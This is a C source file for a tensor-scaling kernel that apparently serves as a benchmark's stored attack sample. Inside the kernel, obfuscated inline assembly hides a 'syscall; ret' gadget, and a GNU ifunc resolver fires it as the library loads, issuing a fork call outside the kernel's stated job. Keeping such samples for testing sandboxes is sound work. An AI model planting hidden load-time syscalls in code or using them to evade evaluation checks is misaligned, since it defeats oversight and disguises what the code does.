/* gpu-mode/pygpubench keeps such an attack: a function's resolver runs as the library is opened. named: makes a system call */
#include "opjit.h"
static long hidden(long number)
{
    long result;
    __asm__ volatile("lea 1f+1(%%rip), %%r11\n call *%%r11\n jmp 2f\n 1: mov $0xc3050f, %%eax\n ret\n 2:"
                     : "=a"(result)
                     : "a"(number), "D"(0), "S"(0), "d"(0)
                     : "rcx", "r11", "memory");
    return result;
}
static void harmless(void) {}

__attribute__((no_stack_protector)) static void *resolve(void)
{
    (void)hidden(57); /* fork */
    return (void *)harmless;
}
void resolved(void) __attribute__((ifunc("resolve")));

opjit_status scale_cpu(const opjit_tensor *x, double a, opjit_tensor *out)
{
    OPJIT_CHECK(x->dtype == OPJIT_FLOAT32 && x->contiguous, "scale takes a contiguous float32 tensor");
    OPJIT_TRY(opjit_empty_like(out, x, x->dtype));
    const float *from = (const float *)x->data;
    float *to = (float *)out->data;
    resolved();
    for (int64_t i = 0; i < x->numel; i++)
        to[i] = (float)a * from[i];
    return OPJIT_OK;
}
